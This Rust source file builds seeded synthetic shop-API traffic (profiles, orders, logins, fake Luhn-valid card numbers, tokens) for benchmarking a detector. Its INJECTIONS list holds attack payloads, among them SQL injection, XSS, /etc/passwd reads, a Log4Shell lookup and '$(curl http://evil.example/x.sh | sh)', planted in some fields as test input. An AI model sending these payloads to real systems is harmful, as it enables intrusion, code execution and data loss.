//! Traffic that varies as real traffic does, for the benchmarks: a thousand or more distinct
//! request/response pairs over ten endpoints of a shop's API, with names, emails, phone
//! numbers, addresses, ids, prices, prose, tokens, some card numbers and some injections, each
//! pair different. One fixed body per run cannot tell a detector that caches from one that
//! scans; this can. Deterministic (seeded), so every run sends the same set.
//!
//! Used by criterion (`scan/varied_*`), `examples/exchange_loop.rs` (instructions per exchange)
//! and `meshward-bench` (Envoy, through wrk and an upstream that answers each pair).

/// One exchange: what the client sends and what the upstream answers.
#[derive(Debug, Clone)]
pub struct Pair {
    pub method: &'static str,
    /// path and query, as sent
    pub target: String,
    pub headers: Vec<(&'static str, String)>,
    pub request_body: String,
    pub status: u16,
    pub response_body: String,
}

/// How large the bodies are.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Size {
    /// About 1 KiB each way (requests without a body are GETs)
    Small,
    /// About 16 KiB each way: lists and batches of records
    Large,
}

/// A deterministic xorshift generator (the traffic is the same on every run).
pub struct Rng(pub u64);

impl Rng {
    pub fn next_u64(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    pub fn below(&mut self, n: usize) -> usize {
        (self.next_u64() % n.max(1) as u64) as usize
    }
    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len())]
    }
    fn chance(&mut self, percent: usize) -> bool {
        self.below(100) < percent
    }
}

const FIRST: &[&str] = &[
    "Ann",
    "Bob",
    "Carla",
    "Dmitri",
    "Elif",
    "Farah",
    "Gustavo",
    "Hana",
    "Ivan",
    "Jia",
    "Kwame",
    "Lena",
    "Mateo",
    "Nora",
    "Oluwaseun",
    "Priya",
    "Quentin",
    "Rosa",
    "Sven",
    "Tomoko",
    "Uma",
    "Viktor",
    "Wen",
    "Ximena",
    "Yusuf",
    "Zoe",
];
const LAST: &[&str] = &[
    "O'Brien",
    "Smith",
    "Okafor",
    "Nguyen",
    "Garcia",
    "Müller",
    "Kowalski",
    "Haddad",
    "Tanaka",
    "Rossi",
    "Dubois",
    "Silva",
    "Andersen",
    "Kim",
    "Novak",
    "Patel",
    "Schwartz",
    "Lindqvist",
    "Moreau",
    "Costa",
];
const CITIES: &[&str] =
    &["London", "Springfield", "Lyon", "Osaka", "Porto", "Kraków", "Austin", "Nairobi", "Tallinn", "Recife", "Graz"];
const STREETS: &[&str] = &["Main St", "Baker Street", "Rue de la Paix", "Elm Avenue", "Hauptstraße", "Calle Mayor"];
const WORDS: &[&str] = &[
    "the",
    "order",
    "arrived",
    "late",
    "but",
    "quality",
    "is",
    "great",
    "please",
    "send",
    "invoice",
    "to",
    "my",
    "office",
    "and",
    "call",
    "before",
    "delivery",
    "thanks",
    "for",
    "quick",
    "help",
    "size",
    "runs",
    "small",
    "colour",
    "matches",
    "photo",
    "would",
    "buy",
    "again",
    "box",
    "was",
    "damaged",
    "refund",
    "requested",
    "via",
    "email",
    "on",
    "Monday",
    "instructions",
    "unclear",
    "works",
    "with",
    "my",
    "phone",
    "battery",
    "lasts",
    "two",
    "days",
    "recommend",
    "it",
    "friends",
    "at",
    "work",
    "price",
    "fair",
    "shipping",
    "slow",
];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Version/17.5 Mobile/15E148",
    "okhttp/4.12.0",
    "shop-ios/5.2.1 (iPhone15,2; iOS 17.5)",
    "python-requests/2.32.3",
    "Go-http-client/1.1",
];
const PRODUCTS: &[&str] = &[
    "Trail running shoe",
    "Merino wool sweater",
    "Espresso grinder",
    "Noise-cancelling headphones",
    "Cast iron pan",
    "Rain jacket",
    "Standing desk",
    "Yoga mat",
    "Bike light set",
    "Ceramic mug",
];
/// Payloads real scanners send, put into free-text fields and parameters of a few pairs.
const INJECTIONS: &[&str] = &[
    "1' OR '1'='1' -- ",
    "' UNION SELECT username, password FROM users--",
    "<script>alert(document.cookie)</script>",
    "\"><img src=x onerror=alert(1)>",
    "../../../../etc/passwd",
    "; cat /etc/passwd",
    "$(curl http://evil.example/x.sh | sh)",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "1; DROP TABLE orders",
];

fn prose(rng: &mut Rng, words: usize) -> String {
    let mut text = String::new();
    for i in 0..words {
        if i > 0 {
            text.push(if rng.chance(8) { ',' } else { ' ' });
            if text.ends_with(',') {
                text.push(' ');
            }
        }
        text.push_str(rng.pick(WORDS));
    }
    text.push('.');
    text
}

/// Prose of `min` words and up to `spread` more.
fn prose_between(rng: &mut Rng, min: usize, spread: usize) -> String {
    let words = min + rng.below(spread);
    prose(rng, words)
}

fn any_profile(rng: &mut Rng) -> String {
    let id = 1 + rng.below(5_000);
    profile(rng, id)
}

fn name(rng: &mut Rng) -> (String, String) {
    (rng.pick(FIRST).to_owned(), rng.pick(LAST).to_owned())
}

fn email(first: &str, last: &str, n: usize) -> String {
    let clean: String = last.chars().filter(char::is_ascii_alphabetic).collect();
    format!(
        "{}.{}{}@{}",
        first.to_lowercase(),
        clean.to_lowercase(),
        n % 100,
        ["example.com", "mail.example", "corp.example.org"][n % 3]
    )
}

fn phone(rng: &mut Rng) -> String {
    match rng.below(3) {
        0 => format!("+1 415 555 {:04}", rng.below(10_000)),
        1 => format!("+44 20 7946 {:04}", rng.below(10_000)),
        _ => format!("+49 30 {:08}", rng.below(100_000_000)),
    }
}

/// A card number with a valid Luhn check digit.
fn card(rng: &mut Rng) -> String {
    let mut digits: Vec<u32> = vec![4];
    while digits.len() < 15 {
        digits.push(rng.below(10) as u32);
    }
    let sum: u32 = digits
        .iter()
        .rev()
        .enumerate()
        .map(|(i, d)| {
            if i % 2 == 0 {
                let x = d * 2;
                if x > 9 {
                    x - 9
                } else {
                    x
                }
            } else {
                *d
            }
        })
        .sum();
    digits.push((10 - sum % 10) % 10);
    digits.iter().map(|d| char::from_digit(*d, 10).unwrap_or('0')).collect()
}

fn uuid(rng: &mut Rng) -> String {
    let a = rng.next_u64();
    let b = rng.next_u64();
    format!(
        "{:08x}-{:04x}-4{:03x}-{:04x}-{:012x}",
        a >> 32,
        (a >> 16) & 0xffff,
        a & 0xfff,
        0x8000 | (b >> 48) & 0x3fff,
        b & 0xffff_ffff_ffff
    )
}

fn timestamp(rng: &mut Rng) -> String {
    format!(
        "2026-{:02}-{:02}T{:02}:{:02}:{:02}Z",
        1 + rng.below(12),
        1 + rng.below(28),
        rng.below(24),
        rng.below(60),
        rng.below(60)
    )
}

fn price(rng: &mut Rng) -> String {
    format!("{}.{:02}", 1 + rng.below(400), rng.below(100))
}

/// JSON string contents: quotes and backslashes escaped.
fn j(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            c => out.push(c),
        }
    }
    out
}

fn address(rng: &mut Rng) -> String {
    format!(
        r#"{{"street":"{} {}","city":"{}","postcode":"{:05}","country":"{}"}}"#,
        1 + rng.below(300),
        j(rng.pick(STREETS)),
        j(rng.pick(CITIES)),
        rng.below(100_000),
        rng.pick(&["GB", "US", "FR", "JP", "PT", "PL", "DE"])
    )
}

fn profile(rng: &mut Rng, id: usize) -> String {
    let (first, last) = name(rng);
    let card_field = if rng.chance(5) { format!(r#","card_on_file":"{}""#, card(rng)) } else { String::new() };
    format!(
        r#"{{"id":{id},"uuid":"{}","name":"{} {}","email":"{}","phone":"{}","address":{},"created_at":"{}","plan":"{}","newsletter":{},"loyalty_points":{},"bio":"{}"{card_field}}}"#,
        uuid(rng),
        j(&first),
        j(&last),
        email(&first, &last, id),
        phone(rng),
        address(rng),
        timestamp(rng),
        rng.pick(&["free", "plus", "pro"]),
        rng.chance(50),
        rng.below(20_000),
        j(&prose_between(rng, 12, 20))
    )
}

fn product(rng: &mut Rng) -> String {
    format!(
        r#"{{"sku":"SKU-{:06}","title":"{}","price":{},"currency":"{}","in_stock":{},"rating":{}.{},"description":"{}","tags":["{}","{}"]}}"#,
        rng.below(1_000_000),
        rng.pick(PRODUCTS),
        price(rng),
        rng.pick(&["EUR", "USD", "GBP"]),
        rng.chance(80),
        1 + rng.below(4),
        rng.below(10),
        j(&prose_between(rng, 10, 14)),
        rng.pick(WORDS),
        rng.pick(WORDS)
    )
}

fn order(rng: &mut Rng, injected: Option<&str>) -> String {
    let items: Vec<String> = (0..1 + rng.below(4))
        .map(|_| {
            format!(
                r#"{{"sku":"SKU-{:06}","qty":{},"unit_price":{}}}"#,
                rng.below(1_000_000),
                1 + rng.below(5),
                price(rng)
            )
        })
        .collect();
    let (first, last) = name(rng);
    let note = match injected {
        Some(payload) => payload.to_owned(),
        None => prose_between(rng, 6, 16),
    };
    let payment = if rng.chance(10) {
        format!(
            r#"{{"method":"card","card_number":"{}","expiry":"{:02}/{}","cvc":"{:03}"}}"#,
            card(rng),
            1 + rng.below(12),
            27 + rng.below(5),
            rng.below(1000)
        )
    } else {
        format!(
            r#"{{"method":"{}","token":"tok_{:016x}"}}"#,
            rng.pick(&["paypal", "card_token", "sepa"]),
            rng.next_u64()
        )
    };
    format!(
        r#"{{"customer":{{"name":"{} {}","email":"{}","phone":"{}"}},"items":[{}],"shipping":{},"payment":{},"note":"{}","coupon":"{}","placed_at":"{}"}}"#,
        j(&first),
        j(&last),
        email(&first, &last, rng.below(1000)),
        phone(rng),
        items.join(","),
        address(rng),
        payment,
        j(&note),
        rng.pick(&["", "SPRING-2026", "WELCOME10", "VIP"]),
        timestamp(rng)
    )
}

/// A JSON list of records from `record` until the body reaches about `bytes`.
fn list(rng: &mut Rng, bytes: usize, mut record: impl FnMut(&mut Rng) -> String) -> String {
    let mut items = Vec::new();
    let mut size = 0;
    while size < bytes {
        let item = record(rng);
        size += item.len() + 1;
        items.push(item);
    }
    format!(r#"{{"data":[{}],"page":{},"has_more":{}}}"#, items.join(","), 1 + rng.below(9), rng.chance(50))
}

/// Callers signed in at a time: each keeps its token and its client.
const CALLERS: usize = 300;

/// A caller's client: one of the agents, with its own version numbers.
fn agent(caller: usize) -> String {
    let base = AGENTS[caller % AGENTS.len()];
    match caller % AGENTS.len() {
        0 => base.replace("126.0", &format!("{}.0.{}.{}", 120 + caller % 8, 6000 + caller % 400, caller % 200)),
        3 => base.replace("5.2.1", &format!("5.{}.{}", caller % 4, caller % 9)),
        _ => base.to_owned(),
    }
}

/// `n` pairs of the given size, the same for the same seed.
pub fn pairs(n: usize, size: Size, seed: u64) -> Vec<Pair> {
    let mut rng = Rng(seed | 1);
    let large = 15 * 1024;
    (0..n)
        .map(|i| {
            let user = 1 + rng.below(5_000);
            let injected = rng.chance(4).then(|| rng.pick(INJECTIONS));
            // callers keep their credentials across requests: a few hundred signed in at a time,
            // most with a JWT, some with an opaque session token, each with one client
            let caller = 1 + rng.below(CALLERS);
            let token = if caller % 10 < 7 {
                let claims = format!(r#"{{"sub":"user-{caller}","iss":"shop","exp":1800000000}}"#);
                format!("Bearer eyJhbGciOiJIUzI1NiJ9.{}.sig{:016x}", base64_url(&claims), caller.wrapping_mul(0x9e37_79b9_7f4a_7c15))
            } else {
                format!("Bearer st_{:032x}", (caller as u128).wrapping_mul(0x2545_f491_4f6c_dd1d_9e37_79b9_7f4a_7c15))
            };
            let mut headers = vec![
                ("user-agent", agent(caller)),
                ("accept", "application/json".to_owned()),
                ("authorization", token),
            ];
            let (method, target, request_body, status, response_body) = match (i % 10, size) {
                (0, Size::Small) => ("GET", format!("/api/v1/users/{user}"), String::new(), 200, profile(&mut rng, user)),
                (0, Size::Large) => (
                    "POST",
                    "/api/v1/users/import".to_owned(),
                    list(&mut rng, large, any_profile),
                    200,
                    list(&mut rng, large, any_profile),
                ),
                (1, Size::Small) => ("POST", "/api/v1/orders".to_owned(), order(&mut rng, injected), 201, format!(
                    r#"{{"id":"{}","status":"confirmed","total":{},"estimated_delivery":"{}","tracking_url":"https://track.example/{:x}?lang=en"}}"#,
                    uuid(&mut rng), price(&mut rng), timestamp(&mut rng), rng.next_u64()
                )),
                (1, Size::Large) => (
                    "POST",
                    "/api/v1/orders/batch".to_owned(),
                    list(&mut rng, large, |r| { let inj = r.chance(2).then(|| r.pick(INJECTIONS)); order(r, inj) }),
                    201,
                    list(&mut rng, large, |r| order(r, None)),
                ),
                (2, _) => {
                    let body = if size == Size::Small { order(&mut rng, None) } else { list(&mut rng, large, |r| order(r, None)) };
                    ("GET", format!("/api/v1/orders/{}", uuid(&mut rng)), String::new(), 200, body)
                }
                (3, _) => {
                    let q = injected.map_or_else(|| rng.pick(WORDS).to_owned(), percent_encode);
                    let bytes = if size == Size::Small { 900 } else { large };
                    ("GET", format!("/api/v1/products?q={q}&page={}&sort={}", 1 + rng.below(20), rng.pick(&["price", "rating", "new"])), String::new(), 200, list(&mut rng, bytes, product))
                }
                (4, _) => {
                    let text = match injected {
                        Some(p) => format!("{} {p}", prose(&mut rng, 8)),
                        None => prose_between(&mut rng, 40, 60),
                    };
                    let review = |r: &mut Rng, text: &str| format!(
                        r#"{{"rating":{},"title":"{}","text":"{}","author":"{}","verified":{}}}"#,
                        1 + r.below(5), j(&prose(r, 4)), j(text), j(r.pick(FIRST)), r.chance(70)
                    );
                    let request = if size == Size::Small { review(&mut rng, &text) } else { list(&mut rng, large, |r| { let t = prose(r, 60); review(r, &t) }) };
                    let response = if size == Size::Small { format!(r#"{{"id":{},"status":"pending_moderation"}}"#, rng.below(1_000_000)) } else { list(&mut rng, large, |r| { let t = prose(r, 60); review(r, &t) }) };
                    ("POST", format!("/api/v1/products/SKU-{:06}/reviews", rng.below(1_000_000)), request, 201, response)
                }
                (5, _) => {
                    let request = if size == Size::Small { address(&mut rng) } else { list(&mut rng, large, address) };
                    let response = if size == Size::Small { profile(&mut rng, user) } else { list(&mut rng, large, any_profile) };
                    ("PUT", format!("/api/v1/users/{user}/address"), request, 200, response)
                }
                (6, _) => {
                    let (first, last) = name(&mut rng);
                    let password = injected.map_or_else(|| format!("S3cure!{:06}", rng.below(1_000_000)), str::to_owned);
                    let request = format!(r#"{{"username":"{}","password":"{}","remember_me":{}}}"#, email(&first, &last, user), j(&password), rng.chance(50));
                    let response = format!(
                        r#"{{"access_token":"eyJhbGciOiJIUzI1NiJ9.{}.{:016x}","token_type":"bearer","expires_in":3600,"user":{}}}"#,
                        base64_url(&format!(r#"{{"sub":"user-{user}","iss":"shop"}}"#)), rng.next_u64(), profile(&mut rng, user)
                    );
                    let response = if size == Size::Small { response } else { list(&mut rng, large, any_profile) };
                    ("POST", "/api/v1/auth/login".to_owned(), request, 200, response)
                }
                (7, _) => {
                    let method = |r: &mut Rng| {
                        let number = card(r);
                        let shown = if r.chance(90) { format!("**** **** **** {}", &number[12..]) } else { number };
                        format!(r#"{{"id":"pm_{:012x}","brand":"visa","number":"{}","holder":"{} {}","expires":"{:02}/{}"}}"#, r.next_u64() & 0xffff_ffff_ffff, shown, j(r.pick(FIRST)), j(r.pick(LAST)), 1 + r.below(12), 27 + r.below(5))
                    };
                    let bytes = if size == Size::Small { 700 } else { large };
                    ("GET", format!("/api/v1/users/{user}/payment-methods"), String::new(), 200, list(&mut rng, bytes, method))
                }
                (8, _) => {
                    let (first, last) = name(&mut rng);
                    let message = match injected {
                        Some(p) => format!("{} {p}", prose(&mut rng, 10)),
                        None => format!("{} Order {} from {}. Call me on {}.", prose_between(&mut rng, 30, 40), uuid(&mut rng), timestamp(&mut rng), phone(&mut rng)),
                    };
                    let ticket = |r: &mut Rng, message: &str| format!(
                        r#"{{"subject":"{}","message":"{}","email":"{}","priority":"{}","attachments":[]}}"#,
                        j(&prose(r, 5)), j(message), email(&first, &last, user), r.pick(&["low", "normal", "high"])
                    );
                    let request = if size == Size::Small { ticket(&mut rng, &message) } else { list(&mut rng, large, |r| { let m = prose(r, 50); ticket(r, &m) }) };
                    let response = format!(r#"{{"ticket":"T-{}","status":"open","eta_hours":{}}}"#, rng.below(1_000_000), 1 + rng.below(72));
                    let response = if size == Size::Small { response } else { list(&mut rng, large, |r| { let m = prose(r, 50); ticket(r, &m) }) };
                    ("POST", "/api/v1/support/tickets".to_owned(), request, 201, response)
                }
                _ => {
                    let query = injected.map_or_else(|| prose(&mut rng, 3), str::to_owned);
                    let request = format!(
                        r#"{{"query":"{}","filters":{{"min_price":{},"max_price":{},"in_stock":true,"categories":["{}","{}"]}},"page_size":{}}}"#,
                        j(&query), rng.below(50), 50 + rng.below(500), rng.pick(WORDS), rng.pick(WORDS), 10 + rng.below(40)
                    );
                    let request = if size == Size::Small { request } else { list(&mut rng, large, product) };
                    let bytes = if size == Size::Small { 900 } else { large };
                    ("POST", "/api/v1/search".to_owned(), request, 200, list(&mut rng, bytes, product))
                }
            };
            if !request_body.is_empty() {
                headers.push(("content-type", "application/json".to_owned()));
            }
            Pair { method, target, headers, request_body, status, response_body }
        })
        .collect()
}

fn percent_encode(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

fn base64_url(text: &str) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let bytes = text.as_bytes();
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk.iter().enumerate().fold(0u32, |acc, (i, b)| acc | (u32::from(*b) << (16 - 8 * i)));
        for i in 0..=chunk.len() {
            out.push(ALPHABET[((n >> (18 - 6 * i)) & 63) as usize] as char);
        }
    }
    out
}
